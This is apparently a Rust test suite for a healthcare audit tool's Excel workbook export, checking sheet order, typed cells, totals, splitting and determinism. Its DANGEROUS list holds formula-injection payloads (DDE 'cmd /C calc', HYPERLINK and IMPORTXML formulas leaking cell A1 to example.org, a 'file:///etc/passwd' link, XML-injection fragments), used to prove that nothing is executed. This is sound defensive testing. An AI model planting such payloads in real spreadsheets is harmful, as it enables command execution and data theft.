//! `findings.xlsx`: every finding once, typed, in order, and no text that a spreadsheet would run.

use std::collections::BTreeSet;
use std::error::Error;
use std::io::{Cursor, Read};

use calamine::{Data, DataType, Range, Reader, Xlsx};
use chrono::NaiveDate;
use flate2::read::DeflateDecoder;
use ivig_audit::report::facts::Editions;
use ivig_audit::report::workbook::{Contents, Limits, Written, write};
use ivig_audit::summary::summarise;
use ivig_audit::summary::worklist::Worklist;
use ivig_audit::table::Row;
use ivig_audit::table::parquet::ParquetAppender;

use super::{Outcome, orders, publish, results};

/// The day against which the tests judge what is still to come.
const AS_OF: (i32, u32, u32) = (2025, 3, 1);

const REJECTED: &str = "file,record,line,offset,reason,column\nclaims.csv,7,9,1204,field-count,\n'=x.csv,8,10,9999999999,invalid-encoding,hcpcs\n";

const SHEETS: [&str; 9] =
    ["Summary", "Worklist", "By row", "By prescriber", "Patterns", "Not settled", "Data quality", "Rejected", "Method"];

/// Texts that a spreadsheet would run, or change, if it were to guess what they are.
const DANGEROUS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")",
    "=IMPORTXML(CONCAT(\"http://example.org/?\",A1),\"//a\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "|=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "  leading and trailing  ",
    "'=1+1",
    "\"=1+1\"",
    "''",
    "{=1+1}",
    "<f>1+1</f>",
    "</t></is></c><c r=\"A1\"><f>1+1</f></c>",
    "&#61;1+1",
    "_x003D_1+1",
    "_x000D_",
    "http://example.org/",
    "mailto:a@example.org",
    "file:///etc/passwd",
    "00123",
    "1E5",
    "2024-01-01",
    "TRUE",
    "#REF!",
    "nul\u{0}, bell\u{7} and \u{1b}[31m",
    "\u{202e}=1+1",
    "\u{feff}=1+1",
];

fn made(rows: &[Row], limits: Limits) -> Result<(Vec<u8>, Written), Box<dyn Error>> {
    let folder = tempfile::tempdir()?;
    let path = folder.path().join("assessments.parquet");
    let mut table = ParquetAppender::new(std::fs::File::create(&path)?)?;
    table.push(rows)?;
    table.finish()?;
    let (counts, editions) = (orders::counts(rows), Editions { newest: orders::appendix(), earlier: vec![] });
    let (ruleset, program) = (orders::ruleset(), orders::program());
    let (inputs, exclusions) = (orders::inputs(counts.records.read), orders::exclusions());
    let summary = summarise(&path)?;
    let results = results(&summary, &counts, (&inputs, &ruleset, &program), &exclusions, &editions);
    let as_of = NaiveDate::from_ymd_opt(AS_OF.0, AS_OF.1, AS_OF.2).ok_or("a day")?;
    let worklist = Worklist::open(&[&path], as_of)?;
    let contents = Contents { worklist: &worklist, rejected: Some(REJECTED.as_bytes()), folder: folder.path(), limits };
    let mut bytes = Vec::new();
    let written = write(&results, contents, &mut bytes)?;
    let left: Vec<_> = std::fs::read_dir(folder.path())?.flatten().map(|entry| entry.file_name()).collect();
    assert_eq!(left, ["assessments.parquet"], "nothing else stays in the folder");
    Ok((bytes, written))
}

type Book = Xlsx<Cursor<Vec<u8>>>;

fn book(rows: &[Row]) -> Result<Book, Box<dyn Error>> {
    Ok(Xlsx::new(Cursor::new(made(rows, Limits::default())?.0))?)
}

/// A list as rows of cells, without its header, and the place of each head.
struct List {
    heads: Vec<String>,
    rows: Vec<Vec<Data>>,
}

impl List {
    fn of(range: &Range<Data>) -> Self {
        let mut rows = range.rows().map(<[Data]>::to_vec);
        let heads = rows.next().unwrap_or_default().iter().map(ToString::to_string).collect();
        Self { heads, rows: rows.collect() }
    }

    fn column(&self, head: &str) -> Vec<Data> {
        let at = self.heads.iter().position(|known| known == head);
        let at = at.unwrap_or_else(|| panic!("no column {head} in {:?}", self.heads));
        self.rows.iter().map(|row| row.get(at).cloned().unwrap_or_default()).collect()
    }
}

fn worklist(book: &mut Book) -> Result<List, Box<dyn Error>> {
    Ok(List::of(&book.worksheet_range("Worklist")?))
}

/// The parts of an archive by name: what a spreadsheet reads, byte for byte.
fn parts(archive: &[u8]) -> Result<Vec<(String, String)>, Box<dyn Error>> {
    let number = |at: usize, size: usize| {
        let bytes = &archive[at..at + size];
        bytes.iter().rev().fold(0, |number, byte| number << 8 | usize::from(*byte))
    };
    let mut parts = Vec::new();
    let entries = (0..archive.len().saturating_sub(46)).filter(|at| archive[*at..].starts_with(b"PK\x01\x02"));
    for entry in entries {
        let name = std::str::from_utf8(&archive[entry + 46..entry + 46 + number(entry + 28, 2)])?.to_owned();
        assert_eq!(&archive[entry + 12..entry + 16], [0, 0, 0x21, 0], "{name} has a time");
        let local = number(entry + 42, 4);
        let data = local + 30 + number(local + 26, 2) + number(local + 28, 2);
        let mut text = String::new();
        DeflateDecoder::new(&archive[data..]).read_to_string(&mut text)?;
        parts.push((name, text));
    }
    Ok(parts)
}

#[test]
fn the_workbook_has_its_sheets_in_order_and_each_finding_once() -> Outcome {
    let rows = orders::orders(611, true);
    let (bytes, written) = made(&rows, Limits::default())?;
    let mut book: Book = Xlsx::new(Cursor::new(bytes))?;
    assert_eq!(book.sheet_names(), SHEETS);
    let list = worklist(&mut book)?;
    let listed: BTreeSet<u64> = list.column("Record").iter().filter_map(Data::as_i64).map(i64::unsigned_abs).collect();
    let findings: BTreeSet<u64> = rows.iter().filter(|row| row.is_finding()).map(|row| row.record).collect();
    assert_eq!(listed, findings);
    assert_eq!((written.findings, list.rows.len()), (findings.len() as u64, findings.len()));
    assert_eq!((written.rejected, written.cut), (2, 0));
    let csv = publish(&rows)?.csv;
    assert_eq!(csv::Reader::from_reader(csv.as_slice()).records().count(), list.rows.len());
    Ok(())
}

#[test]
fn orders_grams_and_money_of_the_workbook_are_those_of_the_summary() -> Outcome {
    let rows = orders::orders(1_211, true);
    let json: serde_json::Value = serde_json::from_str(&publish(&rows)?.json)?;
    let mut book = book(&rows)?;
    let list = worklist(&mut book)?;
    let sum = |head: &str, unit: f64| {
        let cells = list.column(head);
        assert!(cells.iter().all(|cell| cell.is_float() || cell.is_int() || cell.is_empty()), "{head} is typed");
        #[expect(clippy::cast_possible_truncation, reason = "whole cents and thousandths of a gram")]
        let sum =
            |cells: &[Data]| cells.iter().filter_map(Data::as_f64).map(|cell| (cell * unit).round() as i128).sum();
        let sum: i128 = sum(&cells);
        sum
    };
    let of_json = |measure: &str| -> i128 {
        ["flagged", "review"]
            .iter()
            .filter_map(|flag| json["by_flag"][flag][measure].as_str()?.replace('.', "").parse::<i128>().ok())
            .sum()
    };
    assert_eq!(sum("Grams", 1_000.0), of_json("grams"));
    assert_eq!(sum("Allowed", 100.0), of_json("money"));
    for flag in ["flagged", "review"] {
        let word = if flag == "flagged" { "Flagged" } else { "For review" };
        let listed = list.column("Flag").iter().filter(|cell| cell.get_string() == Some(word)).count();
        assert_eq!(json["by_flag"][flag]["orders"], listed);
    }
    let summary = book.worksheet_range("Summary")?;
    let line = |name: &str| {
        let line = summary.rows().find(|row| row[0].get_string() == Some(name)).map(<[Data]>::to_vec);
        line.unwrap_or_else(|| panic!("no line {name}"))
    };
    let plain = |value: &serde_json::Value| value.as_str().and_then(|text| text.parse::<f64>().ok());
    let all = line("All orders");
    assert_eq!(all[2].as_f64(), json["totals"]["patients"].as_f64());
    assert_eq!(all[3].as_f64(), json["totals"]["orders"].as_f64());
    assert_eq!((all[4].as_f64(), all[5].as_f64()), (plain(&json["totals"]["grams"]), plain(&json["totals"]["money"])));
    for (words, code) in [("Recommended", "recommended"), ("Not recommended", "not_recommended")] {
        let figures = &json["by_determination"][code];
        assert_eq!(line(words)[3].as_f64(), figures["orders"].as_f64(), "{code}");
        assert_eq!(line(words)[4].as_f64(), plain(&figures["grams"]), "{code}");
    }
    assert_eq!(line("Findings in the worklist")[1].as_i64(), Some(i64::try_from(list.rows.len())?));
    Ok(())
}

#[test]
fn what_can_still_be_changed_stands_first_with_the_days_left_and_what_to_ask_for() -> Outcome {
    let mut rows = orders::orders(211, true);
    for row in &mut rows {
        row.auth_decision = [None, Some("approved"), Some("pended")][row.record as usize % 3].map(str::to_owned);
    }
    let list = worklist(&mut book(&rows)?)?;
    let urgency: Vec<String> = list.column("Urgency").iter().map(ToString::to_string).collect();
    let days: Vec<Option<i64>> = list.column("Days left").iter().map(Data::as_i64).collect();
    let undecided = urgency.iter().take_while(|word| !word.is_empty() && !word.starts_with("Approved")).count();
    let approved = urgency[undecided..].iter().take_while(|word| *word == "Approved, still to come").count();
    assert!(undecided > 10 && approved > 1, "{urgency:?}");
    assert!(urgency[undecided + approved..].iter().all(String::is_empty));
    // Days that are left, then days that have passed, the latest first, then none that is known.
    let place =
        |days: &Option<i64>| (days.is_none(), days.is_some_and(|days| days < 0), days.unwrap_or_default().abs());
    let sorted = |days: &[Option<i64>]| days.iter().map(place).is_sorted();
    assert!(sorted(&days[..undecided]) && sorted(&days[undecided..undecided + approved]));
    let flags: Vec<String> = list.column("Flag")[undecided + approved..].iter().map(ToString::to_string).collect();
    assert!(flags.is_sorted(), "flagged before review: {flags:?}");
    let asked = list.column("What to ask for");
    assert!(
        asked
            .iter()
            .any(|cell| cell.get_string() == Some("an immunofixation that names the isotype; <b>antibody</b> report")),
        "ids of facts are said in words: {asked:?}"
    );
    Ok(())
}

#[test]
fn cells_are_typed_and_what_is_not_known_is_empty() -> Outcome {
    let row = Row {
        flag: "flagged".to_owned(),
        determination: "not_recommended".to_owned(),
        certainty: "stated".to_owned(),
        service_date: NaiveDate::from_ymd_opt(2024, 2, 29),
        units: Some(80_500),
        billed: Some(-123_456),
        paid: Some(1_000_000_000_000_001),
        diagnoses: vec!["A".to_owned(), "B".to_owned()],
        ..Row::default()
    };
    let old = Row { service_date: NaiveDate::from_ymd_opt(1887, 5, 4), record: 1, ..row.clone() };
    let list = worklist(&mut book(&[row, old])?)?;
    let first = |head: &str| list.column(head)[0].clone();
    let Data::DateTime(date) = first("Service date") else { panic!("{:?}", first("Service date")) };
    assert_eq!(date.to_ymd_hms_milli(), (2024, 2, 29, 0, 0, 0, 0));
    assert_eq!(list.column("Service date")[1], Data::String("1887-05-04".to_owned()), "no day of a spreadsheet");
    assert_eq!((first("Units"), first("Billed")), (Data::Float(80.5), Data::Float(-1234.56)));
    assert_eq!(first("Paid"), Data::String("10000000000000.01".to_owned()), "more digits than a spreadsheet keeps");
    assert_eq!(first("Diagnoses"), Data::String("A; B".to_owned()));
    assert_eq!(first("Determination"), Data::String("Not recommended".to_owned()));
    for unknown in ["Grams", "Allowed", "Slot", "Age", "Patient", "Urgency", "Days left", "What to ask for"] {
        assert_eq!(first(unknown), Data::Empty, "{unknown}");
    }
    Ok(())
}

#[test]
fn no_text_becomes_a_formula_a_link_or_anything_but_itself() -> Outcome {
    let rows: Vec<Row> = DANGEROUS
        .iter()
        .zip(1..)
        .map(|(text, record)| Row {
            record,
            source_file: (*text).to_owned(),
            order_id: Some((*text).to_owned()),
            patient_id: Some((*text).to_owned()),
            reason: (*text).to_owned(),
            provider_id: Some((*text).to_owned()),
            auth_decision: Some((*text).to_owned()),
            diagnoses: vec![(*text).replace('|', "/")],
            would_change: vec![(*text).replace('|', "/")],
            flag: "flagged".to_owned(),
            determination: (*text).to_owned(),
            wanting: Some((*text).to_owned()),
            warnings: vec![(*text).replace('|', "/")],
            ruleset: (*text).to_owned(),
            ..Row::default()
        })
        .collect();
    let (bytes, _) = made(&rows, Limits::default())?;
    let mut book: Book = Xlsx::new(Cursor::new(bytes.clone()))?;
    let list = worklist(&mut book)?;
    let texts = |head: &str| -> Vec<String> {
        let cells = list.column(head).into_iter();
        cells.map(|cell| cell.get_string().unwrap_or_else(|| panic!("{head}: {cell:?}")).to_owned()).collect()
    };
    for head in ["File", "Order or line", "Patient", "Reason", "Prescriber", "Payer’s decision", "Wanting", "Ruleset"]
    {
        assert_eq!(texts(head), DANGEROUS, "{head}");
    }
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet)?;
        assert!(formulas.rows().flatten().all(String::is_empty), "{sheet}");
    }
    for (name, text) in parts(&bytes)? {
        for forbidden in ["<f>", "<f ", "<hyperlink", "externalLink", "ddeLink", "oleObject", "vbaProject", "t=\"str\""]
        {
            assert!(!text.contains(forbidden), "{forbidden} in {name}");
        }
        assert!(!name.ends_with("sheet2.xml") || !text.contains("=1+1<f"), "{name}");
    }
    Ok(())
}

#[test]
fn texts_keep_their_mark_and_reviewers_have_columns_filters_and_neutral_words() -> Outcome {
    let (bytes, _) = made(&orders::orders(60, true), Limits::default())?;
    let parts = parts(&bytes)?;
    let part = |name: &str| parts.iter().find(|(known, _)| known == name).map_or("", |(_, text)| text.as_str());
    assert!(part("xl/styles.xml").contains("quotePrefix=\"1\""), "an edited text stays a text");
    let sheet = part("xl/worksheets/sheet2.xml");
    let list = worklist(&mut Xlsx::new(Cursor::new(bytes.clone()))?)?;
    assert!(list.heads.ends_with(&["Reviewer", "Decision", "Decided on", "Comment"].map(str::to_owned)));
    for head in ["Reviewer", "Decision", "Decided on", "Comment"] {
        assert!(list.column(head).iter().all(Data::is_empty), "{head}");
    }
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter ref=\"A1:"), "{}", &sheet[..900]);
    assert!(sheet.contains("type=\"list\"") && sheet.contains("records asked for"));
    let words = sheet.to_lowercase();
    assert!(["denied", "denial", "deny "].iter().all(|word| !words.contains(word)), "our words decide nothing");
    assert!(part("docProps/core.xml").contains("2000-01-01T00:00:00Z"), "no clock: {}", part("docProps/core.xml"));
    Ok(())
}

#[test]
fn a_list_longer_than_a_sheet_goes_on_in_another_and_loses_nothing() -> Outcome {
    let rows = orders::orders(611, true);
    let whole = worklist(&mut book(&rows)?)?;
    let (bytes, written) = made(&rows, Limits { rows: 101 })?;
    let mut book: Book = Xlsx::new(Cursor::new(bytes))?;
    let mut together = Vec::new();
    let names = book.sheet_names();
    let lists: Vec<&String> = names.iter().filter(|name| name.starts_with("Worklist")).collect();
    assert!(lists.len() >= 3 && lists[1] == "Worklist 2" && names[1] == "Worklist", "{names:?}");
    for name in lists {
        let list = List::of(&book.worksheet_range(name)?);
        assert_eq!(list.heads, whole.heads, "{name}");
        assert!(list.rows.len() <= 100 && !list.rows.is_empty(), "{name}");
        together.extend(list.rows);
    }
    assert!(together == whole.rows);
    assert_eq!(written.findings, together.len() as u64);
    let (bytes, _) = made(&rows, Limits { rows: 2 })?;
    let mut book: Book = Xlsx::new(Cursor::new(bytes))?;
    assert_eq!(List::of(&book.worksheet_range("Rejected 2")?).rows.len(), 1);
    Ok(())
}

#[test]
fn a_text_longer_than_a_cell_is_cut_and_counted() -> Outcome {
    let long = Row { flag: "review".to_owned(), reason: "word ".repeat(9_000), ..Row::default() };
    let (bytes, written) = made(&[long], Limits::default())?;
    let reason = worklist(&mut Xlsx::new(Cursor::new(bytes))?)?.column("Reason")[0].clone();
    let reason = reason.get_string().ok_or("a text")?;
    assert!(reason.starts_with("word word") && reason.ends_with("holds all of it)"));
    assert!(reason.encode_utf16().count() <= 32_767);
    assert_eq!(written.cut, 1);
    Ok(())
}

#[test]
fn the_same_rows_give_the_same_workbook_and_none_gives_one_too() -> Outcome {
    let rows = orders::orders(211, true);
    assert!(made(&rows, Limits::default())?.0 == made(&rows, Limits::default())?.0);
    let mut book = book(&[])?;
    assert_eq!(worklist(&mut book)?.rows.len(), 0);
    assert_eq!(book.sheet_names(), SHEETS);
    Ok(())
}

#[test]
fn prescribers_stand_in_the_workbook_by_the_ids_of_the_export() -> Outcome {
    let mut book = book(&orders::orders(611, true))?;
    let sheet = book.worksheet_range("By prescriber")?;
    assert!(sheet.rows().any(|row| row[0].get_string() == Some("PRCANARY")), "an auditor must know who is meant");
    Ok(())
}

#[test]
fn rejected_records_and_the_method_are_in_the_workbook() -> Outcome {
    let mut book = book(&orders::orders(60, false))?;
    let rejected = List::of(&book.worksheet_range("Rejected")?);
    assert_eq!(rejected.column("Byte offset"), [Data::Float(1204.0), Data::Float(9_999_999_999.0)]);
    assert_eq!(rejected.column("In words")[0], Data::String("Another number of fields than the header has".to_owned()));
    let method = book.worksheet_range("Method")?;
    let text: Vec<String> = method.rows().flatten().map(ToString::to_string).collect();
    for said in ["doi:10.1002/mus.27922", "Basis", "guideline", "guideline_rows", "A code is not a diagnosis"] {
        assert!(text.iter().any(|cell| cell.contains(said)), "{said}");
    }
    let quality = book.worksheet_range("Data quality")?;
    assert!(quality.rows().any(|row| row[0].get_string() == Some("No patient id")));
    Ok(())
}
